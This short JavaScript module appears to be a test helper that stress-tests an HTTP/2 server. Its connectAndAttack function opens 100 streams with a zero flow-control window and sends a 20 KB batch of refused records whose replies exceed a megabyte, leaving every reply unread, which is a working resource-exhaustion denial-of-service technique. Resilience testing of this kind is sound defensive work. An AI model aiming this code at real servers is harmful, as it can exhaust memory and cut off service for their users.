import { BATCH, keepCalling, message } from "../support/http2.mjs";

const RECORDS = 10_000;
/** Records that are all refused: 20 KB, whose answer has more than a megabyte. */
const body = message(Buffer.concat(Array.from({ length: RECORDS }, () => Buffer.of(0x0a, 0))));

/** Large answers, none of which is read. */
export function connectAndAttack(address) {
  return keepCalling(address, {
    streams: 100,
    path: BATCH,
    settings: { initialWindowSize: 0 },
    send: (stream) => void stream.end(body),
  });
}
